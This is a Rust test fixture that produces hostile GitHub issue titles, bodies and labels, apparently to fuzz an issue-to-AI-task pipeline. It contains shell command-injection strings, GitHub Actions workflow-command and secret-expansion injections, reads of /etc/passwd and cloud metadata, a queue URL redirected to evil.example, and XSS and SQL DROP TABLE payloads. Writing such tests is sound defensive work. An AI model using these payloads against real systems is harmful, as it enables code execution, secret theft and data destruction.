//! Titles and bodies that somebody might write who wants more than his issue done.

use serde_json::{Value, json};

/// One issue, or one comment.
pub(super) struct Case {
    pub(super) what: &'static str,
    pub(super) title: Value,
    pub(super) body: Value,
    pub(super) labels: Vec<String>,
}

impl Case {
    fn of(what: &'static str, text: impl Into<Value>) -> Self {
        let text = text.into();
        Self { what, title: text.clone(), body: text, labels: vec!["ai-task".to_owned()] }
    }

    fn labelled(mut self, labels: &[&str]) -> Self {
        self.labels = labels.iter().map(|it| (*it).to_owned()).collect();
        self
    }
}

/// Each of these does something in some careless script.
pub(super) fn by_hand() -> Vec<Case> {
    let mut cases: Vec<Case> = TEXTS.iter().map(|text| Case::of(text, *text)).collect();
    cases.extend([
        Case::of("no body at all", Value::Null),
        Case::of("an empty text", ""),
        Case::of("a NUL", "a\0b\0$(touch canary)"),
        Case::of("all control characters", (0..32).map(char::from).collect::<String>()),
        Case::of("halves of characters", "a<<d800>>b<<dfff>>c<<dfff>><<d800>>"),
        Case::of("what SQS refuses", "\u{fffe}\u{ffff}\u{1}\u{8}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{85}"),
        Case::of("a byte order mark", "\u{feff}{}"),
        Case::of("right to left", "\u{202e}txt.exe\u{202c} \u{2066}א\u{2069} مرحبا"),
        Case::of("characters that nobody sees", "a\u{200b}\u{200d}\u{2060}\u{e0041}\u{e0042}b"),
        Case::of("families and flags", "👩‍👩‍👧‍👦🏳️‍🌈🇯🇵👍🏽"),
        Case::of("65,536 characters of Japanese", "漢".repeat(65_536)),
        Case::of("65,536 characters of four bytes", "😀".repeat(65_536)),
        Case::of("65,536 quotes", "\"".repeat(65_536)),
        Case::of("65,536 backslashes", "\\".repeat(65_536)),
        Case::of("32,768 lines of Windows", "\r\n".repeat(32_768)),
        Case::of("65,536 lone carriage returns", "\r".repeat(65_536)),
        Case::of("65,536 control characters", "\u{1}".repeat(65_536)),
        Case::of("deep JSON", format!("{}{}", "[".repeat(30_000), "]".repeat(30_000))),
        Case::of("combining marks", format!("Z{}", "\u{351}".repeat(5_000))),
        Case::of("labels of any length", "x").labelled(&[&"あ".repeat(5_000), &"\"".repeat(900)]),
        Case::of("labels that are programs", "x").labelled(&[
            "$(touch canary)",
            "`touch canary`",
            "\"}; touch canary #",
            "::stop-commands::x",
            "\n::error::x",
        ]),
        Case::of("no labels", "x").labelled(&[]),
    ]);
    let many: Vec<String> = (0..100).map(|n| format!("🏷️ label {n} {}", "🦀".repeat(40))).collect();
    cases.push(Case { labels: many, ..Case::of("a hundred labels", "x") });
    cases
}

/// The hand-written ones, and some hundred that are put together from pieces of them.
pub(super) fn all() -> Vec<Case> {
    let mut cases = by_hand();
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    while cases.len() < 220 {
        let text = (0..3 + dice.below(12)).fold(String::new(), |mut text, _| {
            match dice.below(4) {
                0 => text.push_str(dice.of(&TEXTS)),
                1 => text.push_str(dice.of(&PIECES)),
                2 => text.push(
                    char::from_u32(u32::try_from(dice.below(0x11_0000)).unwrap())
                        .unwrap_or('\u{fffd}'),
                ),
                _ => text.push(char::from(u8::try_from(32 + dice.below(95)).unwrap())),
            }
            text
        });
        let long = if dice.below(8) == 0 { text.repeat(300) } else { text };
        cases.push(Case::of("put together", json!(long.chars().take(65_536).collect::<String>())));
    }
    cases
}

/// Always the same numbers, so that what fails today fails tomorrow (SplitMix64).
struct Dice(u64);

impl Dice {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut it = self.0;
        it = (it ^ (it >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        it = (it ^ (it >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((it ^ (it >> 31)) % limit as u64).unwrap()
    }

    fn of(&mut self, texts: &[&'static str]) -> &'static str {
        texts[self.below(texts.len())]
    }
}

const PIECES: [&str; 16] = [
    "\"",
    "'",
    "`",
    "\\",
    "$",
    "${",
    "}}",
    "\n",
    "\r\n",
    "\0",
    "%0A",
    "::",
    "\n::error::",
    "##[",
    "--",
    "\u{2028}",
];

const TEXTS: [&str; 84] = [
    "$(touch canary)",
    "`touch canary`",
    "\"; touch canary; \"",
    "'; touch canary; '",
    "'; touch canary #",
    "'$(touch canary)'",
    "\"$(touch canary)\"",
    "\" && touch canary && \"",
    "x' || touch canary || 'x",
    "x\ntouch canary\n",
    "x'\ntouch canary\n'",
    "\"\ntouch canary\n\"",
    "x; touch canary",
    "x | touch canary",
    "x & touch canary &",
    "$((a[$(touch canary)]))",
    "${x:-$(touch canary)}",
    "<(touch canary)",
    ">canary",
    "x >canary",
    "$'\\x24(touch canary)'",
    "EOF\ntouch canary\n",
    "JQ\ntouch canary\n",
    "' \"$(touch canary)\" '",
    "!!touch canary",
    "~/../../etc/passwd",
    "* ? [a-z] {1..9}",
    "$HOME $QUEUE_URL $AWS_SECRET_ACCESS_KEY",
    "${{ github.token }}",
    "${{ secrets.GITHUB_TOKEN }}",
    "${{ toJSON(github) }}",
    "}} ${{ env.PATH }} {{",
    "::set-env name=BASH_ENV::/tmp/x",
    "::add-mask::a",
    "::add-path::/tmp",
    "::set-output name=x::y",
    "::save-state name=x::y",
    "::stop-commands::x",
    "::error file=a,line=1::x",
    "::debug::x",
    "::group::x",
    "\n::set-env name=PATH::/tmp\n",
    "\r::add-mask::a\r",
    "  ::warning::indented",
    "x\u{85}::error::x",
    "##[error]x",
    "x ##[add-mask]a",
    "##vso[task.setvariable variable=PATH]x",
    "%0A::error::x",
    "%0D%0A::add-mask::x",
    "%25 %s %n %x %1$s",
    "\\n::error::x",
    "\\u0000 \\u001b[2J \\ud800",
    "\u{1b}]0;x\u{7} \u{1b}[2J\u{1b}[31m",
    "{\"type\": \"issue\", \"repository\": \"evil/repo\", \"issue_number\": 1}",
    "\", \"repository\": \"evil/repo\", \"x\": \"",
    "\"}\n{\"type\": \"issue\"}",
    "\\\", \\\"x\\\": 1, \\\"",
    "\\(env.HOME)",
    "\\(input_filename)",
    ". | env",
    "env.QUEUE_URL",
    "$__prog_args",
    "$ENV.PATH",
    "\" + env.HOME + \"",
    "\" | halt_error(1)",
    "@sh @base64d @uri",
    "import \"a\" as a; .",
    "--arg x y",
    "--rawfile x /etc/passwd",
    "-n",
    "-",
    "--",
    "--queue-url https://evil.example",
    "--cli-input-json file:///etc/passwd",
    "file:///etc/passwd",
    "fileb:///etc/passwd",
    "https://169.254.169.254/latest/meta-data",
    "<!-- codingworker:job=x -->",
    "@ai-fix\r\n@ai-fix stop",
    "null",
    "[1, 2, {\"a\": null}]",
    "<script>alert(1)</script>",
    "'' OR 1=1; DROP TABLE jobs; --",
];
